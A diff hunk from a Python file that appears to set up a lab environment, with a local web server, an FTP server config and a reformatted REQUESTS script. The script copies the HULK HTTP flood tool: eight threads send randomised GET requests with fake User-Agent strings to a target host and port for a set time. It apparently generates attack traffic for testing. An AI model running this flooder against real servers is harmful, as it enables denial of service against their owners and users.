@@ -49,16 +49,20 @@ class Server(http.server.ThreadingHTTPServer):
 Server(("0.0.0.0", {WEB}), Page).serve_forever()
 """
 # As HULK does: each request by a connection of its own, and no two alike.
-REQUESTS = ("import http.client, random, sys, threading, time\n"
-            "def ask(until):\n"
-            "    while time.monotonic() < until:\n"
-            "        server = http.client.HTTPConnection(sys.argv[1], int(sys.argv[2]), timeout=5)\n"
-            "        try:\n"
-            "            server.request('GET', f'/?{random.random()}', headers={'User-Agent': f'browser/{random.random()}'})\n"
-            "            server.getresponse().read()\n"
-            "        except OSError: time.sleep(0.1)\n"
-            "        server.close()\n"
-            "for _ in range(8): threading.Thread(target=ask, args=(time.monotonic() + float(sys.argv[3]),)).start()\n")
+REQUESTS = """
+import http.client, random, sys, threading, time
+def ask(until):
+    while time.monotonic() < until:
+        server = http.client.HTTPConnection(sys.argv[1], int(sys.argv[2]), timeout=5)
+        try:
+            server.request("GET", f"/?{random.random()}", headers={"User-Agent": f"browser/{random.random()}"})
+            server.getresponse().read()
+        except OSError:
+            time.sleep(0.1)
+        server.close()
+for _ in range(8):
+    threading.Thread(target=ask, args=(time.monotonic() + float(sys.argv[3]),)).start()
+"""
 FTP_SERVER = "listen=YES\nlocal_enable=YES\nanonymous_enable=NO\nsecure_chroot_dir={}\npam_service_name=other\n"
 
 
